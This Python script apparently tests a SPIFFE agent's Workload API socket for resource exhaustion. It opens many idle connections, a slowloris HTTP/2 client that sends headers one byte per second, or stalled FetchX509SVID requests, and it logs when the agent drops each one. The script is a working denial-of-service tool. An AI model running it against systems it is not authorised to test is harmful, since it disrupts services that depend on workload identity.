"""Idle and slow clients against the agent's Workload API socket (resource exhaustion).

First (unless SLOW is 0) one slow client, which sends the HTTP/2 preface and then a
HEADERS frame one byte per second (slowloris); then COUNT connections that never send a
byte. Reports JSON
lines on stdout, times in seconds since the first connect():

  {"event": "connected", "after": T, "tried": N}     every connect() has returned
  {"event": "open", "after": T, "open": N}           every second: idle ones still open
  {"event": "slow_closed", "after": T}               the agent closed the slow client
  {"event": "closed", "after": T}                    the agent closed the last idle one
  {"event": "gave_up", "after": T, ...}              LIMIT reached first

A connection counts as closed at end of file or a reset (the agent's SETTINGS or GOAWAY
frames before that are read and ignored).

With SLOW "pending" there is no slow client; instead each of the COUNT connections sends
the preface and the headers of a FetchX509SVID request (security header included), and
never its message: a request that never arrives, on every connection.

usage: workload_flood.py SOCKET_PATH COUNT LIMIT [SLOW]
"""
import json
import resource
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# An empty SETTINGS frame, then a HEADERS frame for stream 1 announcing a 100-byte
# payload that arrives one byte per second.
SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
HEADERS = b"\x00\x00\x64\x01\x04\x00\x00\x00\x01" + b"\x00" * 100


def literal(name, value):
    """An HPACK literal header field without indexing, new name, no Huffman coding."""
    name, value = name.encode(), value.encode()
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


# HEADERS (END_HEADERS, not END_STREAM) for stream 1: a FetchX509SVID whose message
# never follows.
PENDING_BLOCK = b"".join(
    literal(n, v)
    for n, v in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/SpiffeWorkloadAPI/FetchX509SVID"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("workload.spiffe.io", "true"),
    ]
)
PENDING = (
    len(PENDING_BLOCK).to_bytes(3, "big") + b"\x01\x04\x00\x00\x00\x01" + PENDING_BLOCK
)


def closed(sock):
    try:
        while True:
            data = sock.recv(65536, socket.MSG_DONTWAIT)
            if data == b"":
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def main():
    path, count, limit = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    mode = sys.argv[4] if len(sys.argv) >= 5 else "1"
    with_slow = mode not in ("0", "pending")
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    start = time.monotonic()

    def report(**kw):
        kw["after"] = round(time.monotonic() - start, 2)
        print(json.dumps(kw), flush=True)

    slow = None
    if with_slow:
        slow = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        slow.settimeout(10)
        slow.connect(path)
        slow.sendall(PREFACE + SETTINGS)
        # Non-blocking from now on (a socket timeout would make every check wait for it).
        slow.setblocking(False)
    pending = bytearray(HEADERS)
    idle = []
    for _ in range(count):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(10)
        try:
            s.connect(path)
        except OSError:
            s.close()
            continue
        if mode == "pending":
            s.sendall(PREFACE + SETTINGS + PENDING)
        s.setblocking(False)
        idle.append(s)
    report(event="connected", tried=count)
    slow_done = not with_slow
    last_byte = last_report = 0.0
    while time.monotonic() - start < limit:
        time.sleep(0.2)
        now = time.monotonic()
        still = []
        for s in idle:
            if closed(s):
                s.close()
            else:
                still.append(s)
        if idle and not still:
            report(event="closed")
        idle = still
        if now - last_report >= 1.0:
            report(event="open", open=len(idle))
            last_report = now
        if not slow_done:
            if closed(slow):
                slow_done = True
                report(event="slow_closed")
            elif pending and now - last_byte >= 1.0:
                try:
                    slow.send(bytes(pending[:1]))
                    del pending[:1]
                except OSError:
                    pass
                last_byte = now
        if not idle and slow_done:
            return
    report(event="gave_up", open=len(idle), slow_open=not slow_done)


main()
